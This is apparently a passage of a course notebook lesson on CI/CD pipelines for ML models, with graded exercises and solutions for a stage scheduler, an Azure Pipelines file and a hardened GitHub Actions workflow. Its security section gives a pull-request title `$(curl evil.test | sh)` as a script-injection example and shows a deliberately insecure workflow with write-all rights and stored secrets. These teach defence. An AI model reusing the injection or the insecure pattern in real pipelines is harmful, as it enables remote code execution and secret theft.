# %% [markdown] lesson="13_pipelines" title="Who pulls the lever at night?" minutes=260 laptop_minutes=1 gpu_minutes=1 imports="yaml" extras="ops"
# All that you did by hand this morning (test, train, gate, register, serve) has to be done again
# tonight, when you are asleep, and tomorrow, when somebody else changes a line. So it has to be written
# down in such a way that a machine does it; and, what is harder, that the machine *stops* when it should.
#
# After this lesson you can
#
# - **say** which part of a pipeline runs next, and why another one does not,
# - **write** pipelines for Azure and for GitHub that react: to a failed test, a stranger's pull request,
#   a bad canary, a missing approval,
# - **find** secrets where they should not be,
# - **pack** a service into an image that starts small, runs without rights, and is the same next year,
# - **plan** the steps from what is there to what should be there, and
# - **describe** a service to a cluster that keeps it alive.
#
# You need lesson 10 (the gate), lesson 11 (the registry, approval by another person) and lesson 12 (the
# service). Nothing is deployed anywhere here: your files are read, and tried in situations.

# %% tags=["setup"]
import json
import math
import os
import re
import subprocess
import sys
import tempfile
from collections import Counter
from graphlib import TopologicalSorter
from pathlib import Path

import matplotlib.pyplot as plt
import numpy as np
from IPython.display import SVG, display

from lmcourse import check, play, plots, timeline
from lmcourse.waiting import wait_bar

check.lesson("13_pipelines")

# %% tags=["parameters"]
preset = "laptop"  # "smoke", "laptop" or "gpu"

# %% [markdown]
# ## Who does it at three in the morning?
#
# A **pipeline** is a list of things to do that a machine does by itself: its *stages* (or *jobs*) hold
# *steps*, and a step is a command. Three things may start it: somebody changes the code, somebody asks
# for it, or the clock says so. There are three kinds, and they have names:
#
# | | when | what it does | ends with |
# |---|---|---|---|
# | **continuous integration** (CI; Beck, 1999; Fowler, 2000) | each change | tests the change, together with all others' | yes or no, in minutes |
# | **continuous delivery** (CD; Humble and Farley, 2010) | each change that passed | packs it, brings it to staging, and on to production | a version that may go out, or has gone |
# | **continuous training** (CT) | new data, drift, or the clock | trains, gates, registers | a new *candidate*, which is no new program |
#
# The third one is what models have and other programs have not. It is kept apart from the other two:
# a training that fails at night must not stop a colleague from mending a typing error in the morning.
# And a model that was trained well is still only a candidate, which takes the way of all others: gate,
# staging, canary, approval.
#
# **Predict first.** A pipeline has the stages test, train, gate, staging, production, and at the end
# "rollback, if something failed". Tonight the *tests* fail. What happens to rollback?

# %% [markdown] fold="Answer"
# It runs, if all that it says is "if something failed": production is rolled back from a good version
# to an older one, at three in the morning, because of a failed test. Much of this lesson is about the
# difference between "something failed" and "what I should undo has failed".

# %% [markdown] slide="Three kinds of pipeline, and training stands apart"
# - **Integration**: each change is tested, yes or no.
# - **Delivery**: what passed is brought to staging, and on to production.
# - **Training**: new data, drift or the clock make a new candidate.
#
# Notes: The third one is what models have and other programs have not. A training that fails at
# night must not stop a colleague from mending a typing error in the morning. And a model that was
# trained well is only a candidate, which takes the way of all others: gate, staging, canary,
# approval.

# %% [markdown]
# What is in a pipeline's engine? At its heart it asks one question, again and again: *which stages may
# start now?* Each stage names others that it **needs**. So the stages form a graph, and as long as
# nothing waits for itself, they can be put into an order in which whatever is needed comes first: a
# **topological order** (Kahn, 1962). Python has it:

# %% tags=["demo", "nbval-check-output"]
needs = {"gate": ["train"], "train": ["test"], "test": [], "staging": ["gate"], "report": ["test"]}
print(list(TopologicalSorter(needs).static_order()))
try:
    list(TopologicalSorter({"a": ["b"], "b": ["c"], "c": ["a"]}).static_order())
except ValueError as problem:
    print(type(problem).__name__, sorted(set(problem.args[1])))

# %% [markdown]
# Beside what it needs, each stage has a *condition*: is it for the good case, for the bad one, or for
# both? Real engines look all the way back here. In Azure Pipelines and in GitHub Actions "it succeeded"
# is about the stages needed, those that they needed, and so on. So we do too.

# %% [markdown] contract="ready"
# `ready(stages, results)` says what an engine does next. It returns a pair of lists of names,
# `(start, skip)`, each in the order of `stages`.
#
# - `stages` is a dictionary from names to stages such as `{"needs": ["train"], "when": "succeeded"}`.
#   A stage may stand above one that it needs.
# - `results` has what is known so far: `"running"`, which is no end, or one of the ends `"succeeded"`,
#   `"failed"`, `"canceled"`, `"skipped"`. Whoever is not in there has not begun.
#
# A stage that has not begun is decided as soon as all its needs have ended. Its `"when"` says how:
#
# | when | it starts if |
# |---|---|
# | `"succeeded"` | all that stands before it succeeded |
# | `"failed"` | at least one of those that stand before it failed |
# | `"always"` | in any case |
#
# Otherwise it is skipped. *Before it* stand its needs, their needs, and so on. Nothing that is decided in
# this call counts as a result in this call.
#
# It raises a `ValueError` if a need is no stage, with its name, or if stages need each other in a circle,
# with the names of those in the circle. It raises also if all have results. What it is handed stays as it
# is. Python's `graphlib` may help you; `lmcourse.pipelines`, the engine that you meet below, may not: it is
# not there when this is graded.
#
# For example, with `{"test": {"needs": [], "when": "succeeded"}, "undo": {"needs": ["test"], "when":
# "failed"}}` it is `(["test"], [])` at first; with the results `{"test": "failed"}` it is `(["undo"], [])`,
# and with `{"test": "succeeded"}` it is `([], ["undo"])`.


# %% exercise="ready" minutes=25 level=3
def ready(stages, results):
    """Return which stages may start now, and which are skipped now."""
    ### BEGIN SOLUTION
    for name, stage in stages.items():
        for need in stage["needs"]:
            if need not in stages:
                raise ValueError(f"{name} needs {need}, which is no stage")
    before = {}  # all that stands before each stage
    for name in TopologicalSorter(
        {n: stage["needs"] for n, stage in stages.items()}
    ).static_order():
        own = stages[name]["needs"]
        before[name] = set(own).union(*(before[need] for need in own))
    start, skip = [], []
    for name, stage in stages.items():
        ends = [results.get(need, "running") for need in stage["needs"]]
        if name in results or "running" in ends:
            continue
        came = [results.get(other) for other in before[name]]
        may = {
            "succeeded": all(result == "succeeded" for result in came),
            "failed": "failed" in came,
            "always": True,
        }[stage["when"]]
        (start if may else skip).append(name)
    return start, skip
    ### END SOLUTION


# %% check="ready" tags=["nbval-check-output"]
check("ready")

# %% [markdown] fold="Hint 1: the parts"
# Three parts, one after the other: look for needs that are no stage; go through a topological order,
# which finds circles by itself, and note for each stage all that stands before it; then go through
# `stages` and decide.

# %% [markdown] fold="Hint 2: all that stands before"
# In a topological order the needs come first. So when you get to a stage, the sets of its needs are
# there already: its own set is its needs, and all of theirs. `set(own).union(*several)` puts many
# together.

# %% [markdown] fold="Hint 3: who is decided?"
# `results.get(need, "running")`: whoever has not begun is not over either. If one of them is "running",
# or the stage itself is in `results`, go on to the next.

# %% [markdown]
# Now let it drive. The next cells draw a graph of stages, and play a night: as long as your `ready` has
# something to start or to skip, it is done.


# %% tags=["demo"]
COLOURS = {
    "succeeded": "#009e73",
    "failed": "#d55e00",
    "skipped": "#d9d9d9",
    "canceled": "#e69f00",
    "running": "#56b4e9",
}


def draw_stages(stages, results):
    """Draw stages from left to right, each with its result in a word and a colour."""
    order = TopologicalSorter({name: stage["needs"] for name, stage in stages.items()})
    column, rows, at = {}, Counter(), {}
    for name in order.static_order():
        column[name] = max((column[need] + 1 for need in stages[name]["needs"]), default=0)
        at[name] = column[name], -rows[column[name]]
        rows[column[name]] += 1
    with plots.drawing(1.6 * (max(column.values()) + 1), 0.75 * max(rows.values()) + 0.3) as (
        picture,
        axes,
    ):
        for name, (x, y) in at.items():
            for need in stages[name]["needs"]:
                axes.annotate(
                    "",
                    (x - 0.4, y),
                    (at[need][0] + 0.4, at[need][1]),
                    arrowprops={"arrowstyle": "->", "color": "#949494"},
                )
            result = results.get(name, "waiting")
            axes.text(
                x,
                y,
                f"{name}\n{result}",
                ha="center",
                va="center",
                size=10,
                color="#222222",
                bbox={
                    "boxstyle": "round,pad=0.35",
                    "facecolor": COLOURS.get(result, "white"),
                    "edgecolor": "#222222",
                    "alpha": 0.75,
                },
            )
        axes.set_xlim(-0.6, max(column.values()) + 0.6)
        axes.set_ylim(-max(rows.values()) + 0.4, 0.6)
        axes.axis("off")
    picture.alt = "Stages and their results: " + ", ".join(
        f"{name} {results.get(name, 'waiting')}" for name in at
    )
    return picture


night = {
    "test": {"needs": [], "when": "succeeded"},
    "train": {"needs": ["test"], "when": "succeeded"},
    "gate": {"needs": ["train"], "when": "succeeded"},
    "staging": {"needs": ["gate"], "when": "succeeded"},
    "production": {"needs": ["staging"], "when": "succeeded"},
    "rollback": {"needs": ["production"], "when": "failed"},
    "report": {"needs": ["production"], "when": "always"},
}


def drive(stages, fails):
    """Run all stages, of which those in `fails` fail; return the results."""
    results = {}
    while any(decided := ready(stages, results)):
        start, skip = decided
        results |= dict.fromkeys(skip, "skipped")
        results |= {name: "failed" if name in fails else "succeeded" for name in start}
    return results


# %% tags=["demo"]
if check.ready("ready"):
    for fails in ("production", "test"):
        display(draw_stages(night, drive(night, [fails])))

# %% [markdown] slide="Rollback undoes what was never done" picture="above"
# The tests fail, and "rollback, if something failed" runs.
#
# Notes: Before you show it: tests, train, gate, staging, production, and a rollback at the end if
# something failed. Tonight the tests fail. Production is rolled back from a good version to an
# older one, at three in the morning. Failed looks all the way back, and everything stands before
# rollback. The remedy belongs where the harm is done.

# %% [markdown]
# *The pictures: stages from left to right, the word below each is its result. Above, production fails,
# and rollback does what it is there for. Below the tests fail, and rollback runs all the same: it undoes
# what was never done.*
#
# **Something to play with.** Choose what fails, and what rollback needs. Is there any choice in this
# small language with which rollback runs when production fails, and only then?


# %% tags=["demo"]
def a_night(fails, rollback_needs):
    """Draw the night in which one stage fails."""
    changed = night | {"rollback": {"needs": [rollback_needs], "when": "failed"}}
    display(draw_stages(changed, drive(changed, [fails])))


if check.ready("ready"):
    play(
        a_night, fails=["gate", "production", "test", "none"], rollback_needs=["production", "test"]
    )

# %% [markdown] fold="Is there one?"
# No. "failed" looks all the way back, and everything stands before rollback. Real languages let you ask
# more exactly, for the result of *one* stage; or they let you put the remedy where the harm is done: in
# the same job as the deployment. You will need that in a moment.

# %% [markdown]
# ## How do you say it?
#
# Your engine understands Python's dictionaries. Real ones read a YAML file that lies beside the code, and
# goes through the same reviews. YAML is names and values: what is
# set in below a name belongs to it, a dash begins one thing of a list, and `[a, b]` and `{a: 1}` are a list and
# names with values on one line. The spaces in front count, and there are no tabs. In Azure Pipelines it is called `azure-pipelines.yml`. It has three
# levels: stages hold jobs, jobs hold steps. Here is the one of a bakery:

# %%
BAKERY = """
trigger:
  branches:
    include: [main]
schedules:
  - cron: "0 4 * * 1-5"
    branches:
      include: [main]
    always: true

stages:
  - stage: Bake
    jobs:
      - job: Oven
        steps:
          - script: make dough
          - script: make bread

  - stage: Sell
    condition: and(succeeded(), ne(variables['Build.Reason'], 'PullRequest'))
    jobs:
      - deployment: Shop
        environment: shop
        strategy:
          runOnce:
            deploy:
              steps:
                - checkout: self
                - script: make shelf
            on:
              failure:
                steps:
                  - checkout: self
                  - script: make sorry
"""

# %% [markdown]
# Read it from the top:
#
# - `trigger`: a push to one of these branches starts it. `pr:`, which is written the same way, says for
#   which *target* branches pull requests start it; where it is missing, all do.
# - `schedules`: so does the clock: minute, hour, day of the month, month, day of the week, in UTC. Without
#   `always: true` only if something has changed since the last time.
# - A stage waits for the one above it, if no `dependsOn` says otherwise. Jobs of a stage run side by
#   side. Steps run one after the other, and after one that fails the others are skipped.
#   But a script of several lines goes on after a line that fails, and only its last one counts.
# - A **deployment** is a job that brings something somewhere: into an **environment**. Environments have
#   a list of people who must **approve**, which is kept beside the file, where no change of the file can
#   reach it. The run waits for them before the stage begins.
# - Each job gets a fresh machine. A plain job finds the code there; a deployment does not, neither in
#   `deploy` nor in `on`: it says `- checkout: self` if it wants it.
# - `on: failure:` are steps for the case that the deployment has failed. The remedy stands where the
#   harm is done.
# - `condition` is an expression: `eq`, `ne`, `and`, `or`, `not`, `succeeded()`, `failed()`, `always()`. There
#   is no `==`: that is GitHub's language.
#
# `variables['Build.SourceBranch']` is the whole name of what runs: `refs/heads/main` for a branch,
# `refs/tags/v1` for a tag, `refs/pull/17/merge` for a pull request. `variables['Build.Reason']` is
# `IndividualCI` for a push, `PullRequest`, `Schedule` or `Manual`.
#
# **Predict first.** Somebody leaves `succeeded()` out, and writes
# `condition: ne(variables['Build.Reason'], 'PullRequest')`. The oven breaks down. Is there an empty shelf?

# %% [markdown] fold="Answer"
# Yes. "It succeeded" is only the *default*. Whoever writes a condition of their own takes its place, and
# the shop opens without bread. It is the most frequent fault in pipelines of this kind, and nobody sees
# it on a good day. The next cells play both.

# %% [markdown]
# To know what a file does, you need not run it. The course has a small reader of this language,
# `lmcourse.pipelines`. It knows a strict subset, refuses all else with the line, and **simulates** the
# rest: what each command comes to is said by a *scenario*, and nothing is executed.

# %% tags=["demo"]
try:
    from lmcourse.pipelines import picture as pipeline_picture
    from lmcourse.pipelines.azure.reading import read
    from lmcourse.pipelines.azure.simulate import Scenario, simulate
    from lmcourse.pipelines.runs import Start
except ImportError as missing:
    print(f"This needs {missing.name}: pip install 'lmcourse[ops]', and run this cell again.")
else:

    def told(text, scenario):
        """Draw what a pipeline does in a scenario, and print what it calls."""
        run = simulate(read(text), scenario)
        display(pipeline_picture.draw(run))
        print("called:", ", ".join(call.command for call in run.log) or "nothing")

    broken = Scenario(outcomes={"make bread": 1})
    told(BAKERY, broken)

# %% [markdown] slide="Try a pipeline without running it" picture="above"
# **Simulated**: a scenario says what each command comes to, and nothing is executed. Here the oven
# breaks down.
#
# Notes: The bakery's file is real Azure YAML: stages hold jobs, jobs hold steps. The oven fails, so
# the shop is skipped, and below the box stands the reason: the condition as it was written and what
# it came to. A reader that knows a strict subset and refuses all else can try a file in dozens of
# situations in a moment.

# %% [markdown]
# *The picture: a box for each stage, from top to bottom, with a mark and a word for its result, and below
# it the reason: the condition as it was written, and what it came to.* And now without `succeeded()`:

# %% tags=["demo"]
if check.ready("told"):
    careful = "and(succeeded(), ne(variables['Build.Reason'], 'PullRequest'))"
    told(BAKERY.replace(careful, "ne(variables['Build.Reason'], 'PullRequest')"), broken)

# %% [markdown] slide="Leave out one word, and the shop opens without bread" picture="above"
# The condition no longer says `succeeded()`.
#
# Notes: That a stage waits for success is only the default. Whoever writes a condition of their own
# takes its place. It is the most frequent fault in pipelines of this kind, and on good days nobody
# sees it. So look at bad days.

# %% [markdown]
# *The picture: the shop opens, though the oven has failed.*
#
# ### What your pipeline is made of
#
# The commands are nine targets of `make`. Each is one that you can type yourself; a pipeline that holds
# the logic in its own YAML can only be tried by pushing it, again and again.
#
# | command | does | fails if |
# |---|---|---|
# | `make test` | tests code and data | one fails |
# | `make train` | trains a candidate | it does |
# | `make gate` | compares it with the one in service | it is not good enough |
# | `make register` | packs it and writes it into the ledger | the ledger cannot be reached |
# | `make staging` | starts it where only you see it | it does not start |
# | `make smoke` | asks it a few things there | the answers are bad |
# | `make canary` | gives it one user in twenty, and watches for a while | it is worse |
# | `make production` | gives it everybody | it is |
# | `make rollback` | gives everybody the old one | that does |
#
# A tenth one, `make login`, shows the cloud who is there. Only the file for GitHub, further below, calls it.
#
# "Smoke test" comes from electronics: switch it on, and see whether smoke rises.

# %% [markdown] contract="PIPELINE"
# `PIPELINE` is a text: the `azure-pipelines.yml` of your model. It is tried by simulation in 29
# situations, provided that a good day is a good day. A test that fails on `main` counts fourfold, a gate
# that says no and a canary that fails count twice, and the others once. Branches, people and numbers
# are drawn anew each time. What it should do:
#
# | what happens | should call |
# |---|---|
# | a change on `main`; the clock, in the night (an hour from 22 to 5, UTC), also where nothing has changed; somebody starts it on `main` by hand | test, train, gate, register, staging, smoke, canary, production, in this order |
# | one of these fails, up to smoke | nothing behind it, and no rollback; the run ends failed |
# | canary or production fails | rollback, and nothing else; the run ends failed, and so it does if rollback fails too |
# | a pull request for `main`, also from a fork | test, and nothing else |
# | nobody approves, somebody rejects it, or only whoever asked approves | nothing behind smoke, and no rollback |
# | another branch, also one whose name *ends* in main; a tag, also one that *is called* main; also where somebody starts them by hand | test at most |
# | somebody cancels it | nothing more |
#
# The environments are called `staging` and `production`; the second one wants to be approved by another
# person than the one who asked. That is set up already: your part is to have canary, production and
# rollback behind it. Each target is a step of its own, `script: make test`; how many stages and jobs there
# are is up to you.
#
# What the reader does not know it refuses, with line and sentence.

# %% exercise="PIPELINE" minutes=45 level=4
### BEGIN SOLUTION
PIPELINE = """
trigger:
  branches:
    include: [main]
pr:
  branches:
    include: [main]
schedules:
  - cron: "0 3 * * *"
    branches:
      include: [main]
    always: true

stages:
  - stage: Test
    jobs:
      - job: Test
        steps:
          - script: make test

  - stage: Candidate
    condition: and(succeeded(), eq(variables['Build.SourceBranch'], 'refs/heads/main'))
    jobs:
      - job: Candidate
        steps:
          - script: make train
          - script: make gate
          - script: make register

  - stage: Staging
    jobs:
      - deployment: Staging
        environment: staging
        strategy:
          runOnce:
            deploy:
              steps:
                - checkout: self
                - script: make staging
                - script: make smoke

  - stage: Production
    jobs:
      - deployment: Production
        environment: production
        strategy:
          runOnce:
            deploy:
              steps:
                - checkout: self
                - script: make canary
                - script: make production
            on:
              failure:
                steps:
                  - checkout: self
                  - script: make rollback
"""
### END SOLUTION

# %% check="PIPELINE" tags=["nbval-check-output"]
check("PIPELINE")

# %% [markdown] fold="Hint 1: how many stages?"
# Four will do: the tests; the candidate (train, gate, register); staging, a deployment; production, a
# deployment. Begin with a copy of the bakery's, and get a good day right first.

# %% [markdown] fold="Hint 2: whose branch?"
# One condition is enough, at the stage behind the tests: what waits for a skipped stage is skipped as
# well. It says *two* things. Compare `Build.SourceBranch`, all of it; `Build.SourceBranchName` is only what
# stands behind the last slash.

# %% [markdown] fold="Hint 3: the remedy"
# A stage `Rollback` with `failed()` runs also when a test has failed, and when somebody rejects the
# approval. Put `make rollback` below `on: failure:` of the deployment that has canary and production in it.

# %% [markdown]
# Now break it on purpose, in simulation first: a night on which the gate says no, and one on which the
# canary fails.

# %% tags=["demo"]
if check.ready("PIPELINE", "told"):
    told(PIPELINE, Scenario(Start(reason="Schedule"), outcomes={"make gate": 1}))

# %% tags=["demo"]
if check.ready("PIPELINE", "told"):
    told(PIPELINE, Scenario(Start(reason="Schedule"), outcomes={"make canary": 1}))

# %% [markdown]
# *The pictures: in the first, everything behind the gate is skipped. In the second, production has failed,
# and the last command that was called is the rollback.*

# %% [markdown] slide="The canary fails, and the last call is the rollback" picture="above"
# What is graded is not the file, but how it **reacts**.
#
# Notes: Each command is a target of make, so you can type it yourself. Logic that stands in the
# pipeline's own YAML can only be tried by pushing it, again and again. On the night when the gate
# says no, everything behind it is skipped. Here the canary has failed, and everybody gets the old
# version back.

# %% [markdown]
# ### For real
#
# Simulation tells what a pipeline *would* call. The platform's `lmops pipeline run` does it for real, with
# the same engine, and bash in place of the scenario. The next cells make a small project in a temporary
# folder: a git repository with a Makefile and your pipeline. The Makefile is broken on purpose, at the
# target that a variable names. It is run three times:
#
# 1. the gate says no;
# 2. all is well, but nobody has approved it;
# 3. `bo` has approved it, and the canary fails.

# %% tags=["demo"]
MAKEFILE = """\
TARGETS = test train gate register staging smoke canary production rollback
.PHONY: $(TARGETS)
$(TARGETS):
\t@test "$(BROKEN)" != "$@" || { echo "make $@: FAILED"; exit 1; }
\t@echo "make $@: done"
"""


def lmops(folder, *words):
    """Type `lmops ...` in a folder; return what it came to. Its ledger lies beside the folder."""
    return subprocess.run(
        [sys.executable, "-m", "lmops.cli", *words],
        cwd=folder,
        env=os.environ | {"LMOPS_HOME": str(folder.parent / "ledger")},
        capture_output=True,
        text=True,
    )


def git(folder, *words):
    """Type `git ...` in a folder, as ana; return what it prints."""
    ana = ("-c", "user.name=ana", "-c", "user.email=ana@mill.example", "-c", "commit.gpgsign=false")
    command = ["git", *ana, *words]
    return subprocess.run(
        command, cwd=folder, check=True, capture_output=True, text=True, errors="replace"
    ).stdout


def run_for_real(folder, broken):
    """Run the pipeline in a folder, where one target is broken; print what was called."""
    came = lmops(
        folder,
        *("pipeline", "run", "azure-pipelines.yml", "--reason", "IndividualCI", "--by", "ana"),
        *("--variable", f"BROKEN={broken}", "--svg", str(folder.parent / "run.svg")),
    )
    calls = re.findall(r"make (\w+): (done|FAILED)", came.stdout + came.stderr)
    said = [name if how == "done" else f"{name} ✗" for name, how in calls]
    print("called:", ", ".join(said) or came.stderr.strip()[-300:])
    print("exit code:", came.returncode)


# %% tags=["demo"]
if check.ready("PIPELINE"):
    with tempfile.TemporaryDirectory() as place:
        folder = Path(place, "project")
        folder.mkdir()
        (folder / "Makefile").write_text(MAKEFILE)
        (folder / "azure-pipelines.yml").write_text(PIPELINE)
        try:
            git(folder, "init", "-q", "-b", "main")
            git(folder, "add", ".")
            git(folder, "commit", "-qm", "A pipeline")
        except (OSError, subprocess.CalledProcessError) as problem:
            print(f"There is no git here ({problem}): the simulation above says the same.")
        else:
            print("1. the gate says no")
            run_for_real(folder, "gate")
            print("2. nobody has approved it")
            run_for_real(folder, "")
            print("3. bo approves it, and the canary fails")
            approved = lmops(folder, "pipeline", "approve", "production", "--by", "bo")
            print((approved.stdout or approved.stderr).strip())
            run_for_real(folder, "canary")
            if Path(place, "run.svg").exists():
                display(SVG(filename=str(Path(place, "run.svg"))))

# %% [markdown]
# A stage whose approval does not come is skipped, and the run is no failure: nothing is wrong, it just
# waits for somebody. That is Azure's way, too.
#
# *The picture: the third run, for real. Production has failed; the line above it ends with the rollback.*
# To see four eyes at work, write `"ana"` in place of `"bo"` in the cell above, and run it again: it is her
# own change, so the platform refuses, and nothing is called behind `smoke`.

# %% [markdown] slide="A stage without its approval waits, and fails nobody" picture="above"
# For real: `bo` has approved the change, the canary fails, and rollback follows.
#
# Notes: The same file with bash in place of the scenario. Without an approval the run stops before
# production and is no failure: it just waits for somebody. Write ana in place of bo and run it
# again: it is her own change, so the platform refuses. The list of approvers lies beside the file,
# where no change of the file can reach it.

# %% [markdown]
# ## And on GitHub?
#
# The same thoughts, in other words. There are no stages; jobs say what they `needs`. And there are
# differences that hurt whoever takes one language for the other:
#
# | | Azure Pipelines | GitHub Actions |
# |---|---|---|
# | file | `azure-pipelines.yml` | `.github/workflows/*.yml` |
# | starts | `trigger`, `pr`, `schedules` | `on: push`, `pull_request`, `schedule`, `workflow_dispatch` |
# | a condition | `eq(variables['Build.SourceBranch'], 'refs/heads/main')` | `github.ref == 'refs/heads/main'` |
# | and without a status function in it | runs after a failure too | has `success()` added |
# | approval | environment of a deployment job | `environment:` of any job |
# | after a failure | `on: failure:` | a step with `if: failure()` |
# | a ready-made step | `task: Cache@2` | `uses: actions/cache@...` |
#
# The fourth row is the dangerous one: the same thought blocks here, and does not block there.
#
# What is new is *rights*. Each job on GitHub gets a **token** by which it may act on the repository. If
# nobody says what for, it may do much. Then a test that reads a poisoned file can push to your main
# branch. Four rules, each of which was paid for dearly by somebody:
#
# 1. **Least rights.** `permissions: {}` at the top takes everything away; each job gets back what it needs.
# 2. **No stored keys.** The old way to reach the cloud is a key in the settings, which is valid for years.
#    The new one is **OIDC** (OpenID Connect): the job shows the cloud a token, signed by GitHub, that says
#    "I am the job *production* of this repository, on *main*", and gets a key that is over in an hour.
#    For that it needs `id-token: write`. In our Makefile `make login` does it.
# 3. **Pin.** `uses: someone/action@v4` runs whatever that tag points to *today*. In March 2025 the tags of
#    tj-actions/changed-files, which thousands of repositories used, were moved to a version that printed
#    their secrets. A commit cannot be moved: `@` and its 40 digits.
# 4. **Names are text.** `run: echo "${{ github.event.pull_request.title }}"` puts the title *into the
#    script* before it runs. Whoever opens a pull request called `$(curl evil.test | sh)` has a program run
#    on your machine.
#
# **Predict first.** A stranger opens a pull request that changes the Makefile: `make test` now sends all
# environment variables to them. Nobody has looked at it yet. What do they get?

# %% [markdown] fold="Answer"
# What the job of the tests has, at once: it runs *their* Makefile. With rule 1 and 2 that is the right to
# read code that is public anyway. So the tests of a pull request are the job that should have least; and
# nothing else should run for it.

# %% [markdown] slide="The same thought blocks on GitHub, and not on Azure"
# A condition of your own, with no status function in it:
#
# - **GitHub** adds `success()`, so it blocks.
# - **Azure** adds nothing, so it runs after a failure too.
#
# Notes: The two languages look alike, and their differences hurt whoever takes one for the other.
# GitHub has no stages, and jobs say what they need. Approval belongs to any job there, and to a
# deployment job on Azure.

# %% [markdown] slide="Pull requests run a stranger's code"
# **Least rights**: `permissions: {}` at the top, then each job gets back what it needs.
#
# No stored keys. Actions pinned to a commit. Titles never in a script.
#
# Notes: A stranger changes the Makefile so that the tests send all environment variables away. What
# do they get? What the job of the tests has, at once, before anybody has looked. So the tests of a
# pull request should have least of all. Each of the four rules was paid for dearly by somebody.

# %% [markdown]
# This one works on a good day:

# %%
HASTY_JOBS = """
name: Model
on:
  push:
  pull_request:
permissions: write-all
jobs:
  all:
    runs-on: ubuntu-24.04
    steps:
      - uses: actions/checkout@v6
      - run: make test
      - run: make train
      - run: "make gate || true"
      - run: make login
        env:
          KEY: ${{ secrets.CLOUD_KEY }}
      - run: make register
      - run: make staging
      - run: make smoke
      - run: make canary
      - run: make production
"""
PIECES = """
on:
  push:
    branches: [main]

permissions: {}

jobs:
  first-job:
    runs-on: ubuntu-24.04
    steps:
      - run: make dough
  some-job:
    needs: first-job
    environment: shop
    concurrency:
      group: one-at-a-time
      cancel-in-progress: false
    permissions:
      contents: read
      id-token: write
    steps:
      - uses: actions/checkout@de0fac2e4500dabe0009e67214ff5f5447ce83dd # v6.0.2
        with:
          persist-credentials: false
      - run: make shelf
      - if: failure()
        run: make sorry
"""

# %% [markdown] contract="WORKFLOW"
# `WORKFLOW` is a text: `.github/workflows/model.yml` for the same model, with the same nine targets and the
# same environments. It is tried in the 29 situations of `PIPELINE`, and in eight more that ask what it may:
#
# | what happens | should |
# |---|---|
# | a test is poisoned, and takes the job's token | have `contents: read` at most; `id-token: write` only in jobs that call register, staging, canary, production or rollback |
# | the cloud asks who is there | have `id-token: write` there, and `make login` before the first of them |
# | somebody copies all stored secrets | have none: no `secrets.` |
# | an action's tag is moved | have each `uses` pinned to a commit |
# | a pull request has a script for a name | have no `${{ }}` within `run` |
# | a later step reads `.git/config` | have `persist-credentials: false` below each checkout |
# | two changes within a minute | let one wait: `concurrency` of the job of production, `cancel-in-progress: false` |
# | a training never ends | have `timeout-minutes` in each job, 120 at most |
#
# They are worth nothing before a good day is a good day. How events, `needs`, an environment, rights, a
# checkout, concurrency and the `if` of a step are written is in `PIECES` above; a `#` begins a comment in YAML. In the repository's settings, the environment `production` asks for a
# reviewer, and does not take the one who started it.

# %% exercise="WORKFLOW" minutes=40 level=4
### BEGIN SOLUTION
WORKFLOW = """
name: Model
on:
  push:
    branches: [main]
  pull_request:
    branches: [main]
  schedule:
    - cron: "0 3 * * *"
  workflow_dispatch:

permissions: {}

jobs:
  test:
    runs-on: ubuntu-24.04
    timeout-minutes: 15
    permissions:
      contents: read
    steps:
      - uses: actions/checkout@de0fac2e4500dabe0009e67214ff5f5447ce83dd # v6.0.2
        with:
          persist-credentials: false
      - run: make test

  candidate:
    needs: test
    if: github.ref == 'refs/heads/main'
    runs-on: ubuntu-24.04
    timeout-minutes: 90
    permissions:
      contents: read
      id-token: write # to write into the registry
    steps:
      - uses: actions/checkout@de0fac2e4500dabe0009e67214ff5f5447ce83dd # v6.0.2
        with:
          persist-credentials: false
      - run: make train
      - run: make gate
      - run: make login
      - run: make register

  staging:
    needs: candidate
    environment: staging
    runs-on: ubuntu-24.04
    timeout-minutes: 30
    permissions:
      contents: read
      id-token: write # to deploy
    steps:
      - uses: actions/checkout@de0fac2e4500dabe0009e67214ff5f5447ce83dd # v6.0.2
        with:
          persist-credentials: false
      - run: make login
      - run: make staging
      - run: make smoke

  production:
    needs: staging
    environment: production
    concurrency:
      group: production
      cancel-in-progress: false
    runs-on: ubuntu-24.04
    timeout-minutes: 60
    permissions:
      contents: read
      id-token: write # to deploy
    steps:
      - uses: actions/checkout@de0fac2e4500dabe0009e67214ff5f5447ce83dd # v6.0.2
        with:
          persist-credentials: false
      - run: make login
      - run: make canary
      - run: make production
      - if: failure()
        run: make rollback
"""
### END SOLUTION

# %% check="WORKFLOW" tags=["nbval-check-output"]
check("WORKFLOW")

# %% [markdown] fold="Hint 1: four jobs"
# test; candidate (train, gate, login, register); staging; production. Each needs the one before, and all
# begin with a checkout. Only candidate has an `if`: what needs a skipped job is skipped too.

# %% [markdown] fold="Hint 2: the rollback"
# The last step of the job `production`, with `if: failure()`: it runs when an earlier step *of this job*
# has failed. In a job of its own `failure()` would look all the way back.

# %% [markdown] fold="Hint 3: what starts it"
# Four events below `on`: push and pull_request for main, schedule with a `cron`, and `workflow_dispatch`
# with nothing behind its colon.

# %% [markdown]
# A training that runs each night inside the pipeline of the application is a compromise, which keeps
# these files short. In the project's own repository there is `pipelines/retrain.yml` beside
# `azure-pipelines.yml`: it starts by the clock, or when drift was noticed (lesson 15), trains, gates and
# registers a candidate, and never stands in the way of a change of the program.
#
# ## Who looks at it before?
#
# A pipeline checks what can be computed. Whether a change is *wise* a person has to say, and for that
# teams have habits, which the tools only hold them to:
#
# - **Branches.** Nobody pushes to `main`. A change is a short-lived branch, of hours or a few days, with a
#   pull request. Long-lived branches are merged with tears; so what is not finished goes in switched off
#   (trunk-based development).
# - **Review.** Another person reads it: is it clear, is it tested, what happens if it is wrong? Small
#   changes are read, large ones are nodded through. The branch is *protected*: no merge without a review
#   and a green pipeline, also for those who could change the rule. And who may change the *pipeline*
#   itself? Whoever can, can do all that it can: so its file has owners who must review it (CODEOWNERS).
# - **Boards.** What is to be done is a card: why, for whom, and how one would see that it is done. The card
#   moves from *to do* over *doing* and *review* to *done*, with few cards in *doing* at a time (Kanban). The
#   commit names the card, and the model's lineage (lesson 11) names the commit: a year later somebody can
#   ask why.
#
# And the work on a model as a whole? Two process models are taught most. **CRISP-DM** (2000: business
# understanding, data understanding, data preparation, modelling, evaluation, deployment) is a circle drawn
# for reports that somebody reads. **TDSP** (Microsoft, 2016) adds roles, a common layout of the
# repository, and a customer who accepts. Hold both against your day:

# %% tags=["demo"]
parts = {  # what each says about a part of your day: 0 nothing, 1 that people see to it, 2 how
    "objective in numbers, before the results (10)": (2, 2),
    "a gate that blocks by itself (10)": (1, 1),
